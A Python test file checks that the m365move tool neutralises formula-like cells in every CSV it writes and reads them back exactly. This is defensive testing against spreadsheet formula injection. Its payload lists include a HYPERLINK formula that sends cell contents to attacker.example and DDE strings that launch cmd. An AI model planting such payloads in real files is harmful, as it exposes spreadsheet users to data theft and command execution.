"""Every CSV m365move writes opens in a spreadsheet as text: formula-like cells are neutralised.

One rule (``m365move.files.spreadsheet_csv``) serves the plan CSV, the results file, the audit tables and the
Call2Teams bulk-import files; E.164 number columns keep their ``+``; ``resume`` reads results files back
with every id exact.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
import yaml

from m365move.audit.audit_report import build_audit
from m365move.audit.platform_state import PlatformCustomer, platform_state_of
from m365move.audit.tables import all_tables
from m365move.audit.tables_csv import write_tables
from m365move.cli import main
from m365move.domain.orders import MigrationMode
from m365move.execution.journal import Journal
from m365move.execution.results_file import read_results, write_results
from m365move.execution.resume import find_resume_target
from m365move.files.spreadsheet_csv import neutralise_cell, restore_cell
from tests.audit.builders import CUSTOMER as AUDIT_CUSTOMER
from tests.audit.builders import NOW
from tests.audit.builders import RESELLER as AUDIT_RESELLER
from tests.audit.builders import standard as audit_scenario
from tests.estate_builder import BASE, EstateBuilder

# Cells that spreadsheets turn into formulas, as OWASP lists them, and the trimmed and full-width variants.
FORMULAS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " \n=1+1",
    "\uff1d1+1",
    "'=1+1",  # already carrying the text prefix: must read back exactly
)
FORMULA_STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def is_live_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: first character after trimmed whitespace starts a formula."""
    stripped = cell.lstrip(" \t\r\n")
    return cell.startswith(FORMULA_STARTS) or (stripped != cell and stripped.startswith(FORMULA_STARTS))


def read_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


def assert_no_formula(rows: list[list[str]], *, allowed: frozenset[str] = frozenset()) -> None:
    live = [cell for row in rows for cell in row if is_live_formula(cell) and cell not in allowed]
    assert not live, f"formula cells written: {live}"


class TestTheRule:
    @pytest.mark.parametrize("value", FORMULAS)
    def test_formula_cells_are_prefixed_and_restored_exactly(self, value: str) -> None:
        written = neutralise_cell(value)
        assert written.startswith("'") and not is_live_formula(written)
        assert restore_cell(written) == value

    @pytest.mark.parametrize("value", ["Contoso", "3000001", "-3", "-0.5", "'quoted", "", "a=b", "x-y"])
    def test_harmless_cells_are_untouched(self, value: str) -> None:
        assert neutralise_cell(value) == value and restore_cell(value) == value

    def test_e164_keeps_its_plus_only_when_exactly_e164(self) -> None:
        assert neutralise_cell("+442079460958", e164=True) == "+442079460958"
        assert neutralise_cell("+44+cmd|' /C calc'!A0", e164=True).startswith("'")
        assert neutralise_cell("+442079460958") == "'+442079460958"


# Formula payloads that are still valid ids (no control characters nor / ? # % \\): the ones that reach a plan.
ID_FORMULAS = ('=HYPERLINK("http:attacker.example","x")', "+1+cmd|' -C calc'!A0", "-2+3+cmd|' -C calc'!A0",
               "@SUM(1+1)*cmd|' -C calc'!A0", "\uff1d1+1", "=1+1")


class TestEveryWriter:
    def test_plan_csv(self, tmp_path: Path) -> None:
        builder = EstateBuilder()
        builder.commerce["resellers"] = []
        builder.commerce["customers"] = []
        builder = builder.csp_plan(5001, upgrade={ID_FORMULAS[0]: [6001]}, delegated=(ID_FORMULAS[0],))
        builder = builder.nce_plan(6001, delegated=(ID_FORMULAS[0],))
        builder.reseller(ID_FORMULAS[0]).customer(ID_FORMULAS[3], reseller_id=ID_FORMULAS[0])
        for number, value in enumerate(ID_FORMULAS):
            builder.subscription(value, customer=ID_FORMULAS[3], resources=[(BASE, 12)], start=f"2026-03-{number + 1:02d}")
        estate = tmp_path / "estate.yaml"
        estate.write_text(yaml.safe_dump(builder.doc))
        output = tmp_path / "plan.csv"
        assert main(["plan", "--mode", "new-subscription", "--estate", str(estate), "--format", "csv",
                     "--output", str(output)]) == 0
        rows = read_cells(output)
        assert len(rows) == 1 + len(ID_FORMULAS)
        assert_no_formula(rows)
        assert sorted(restore_cell(row[0]) for row in rows[1:]) == sorted(ID_FORMULAS)

    def test_results_file_is_neutralised_and_resume_reads_it_exactly(self, tmp_path: Path) -> None:
        journal = Journal(tmp_path / "journal.sqlite")
        run_id = journal.start_run(MigrationMode.NEW_SUBSCRIPTION, False, {"mode": "new-subscription"})
        rows = [{"run_id": run_id, "subscription_id": value, "mode": "new-subscription", "decision": "migrate",
                 "final_status": "pending", "orders": f"sales:{value}:completed", "new_subscription_ids": value,
                 "reasons": value, "failure_message": value} for value in FORMULAS]
        rows.append({**rows[0], "subscription_id": "3000001", "final_status": "migrated", "reasons": "-"})
        path = tmp_path / f"{run_id}.csv"
        write_results(path, rows)
        journal.record_results(run_id, rows)
        assert_no_formula(read_cells(path))
        assert [{k: r[k] for k in rows[0]} for r in read_results(path).rows] == rows
        assert find_resume_target(journal, str(path)).subscription_ids == frozenset(FORMULAS)

    def test_audit_tables(self, tmp_path: Path) -> None:
        scenario = audit_scenario()
        platform = scenario.platform()
        hostile = platform_state_of({AUDIT_RESELLER: FORMULAS[0]},
                                    [PlatformCustomer(AUDIT_CUSTOMER, FORMULAS[3], AUDIT_RESELLER)],
                                    platform.subscriptions.values(), platform.orders)
        report = build_audit(scenario.records(), hostile, NOW)
        written = write_tables(tmp_path, all_tables(report))
        cells = [cell for path in written for row in read_cells(path) for cell in row]
        assert_no_formula([cells])
        assert neutralise_cell(FORMULAS[0]) in cells and neutralise_cell(FORMULAS[3]) in cells

    def test_bulk_import_files_keep_e164_numbers(self, tmp_path: Path) -> None:
        users = tmp_path / "users.csv"
        with users.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            writer.writerow(["SIPUsername", "Name", "Email", "PhoneNumber", "AuthUsername", "ExternalId"])
            for number, value in enumerate(FORMULAS):
                writer.writerow([value, value, f"{value}@contoso.example", f"+44 20 7946 {number:04d}", value, value])
        out = tmp_path / "out"
        assert main(["call2teams", "bulk-import", "--users", str(users), "--template", "pbx",
                     "--output-dir", str(out)]) == 0
        rows = read_cells(next(out.glob("*.csv")))
        numbers = frozenset(f"+44207946{number:04d}" for number in range(len(FORMULAS)))
        assert {row[3] for row in rows[1:]} == numbers
        assert_no_formula(rows, allowed=numbers)
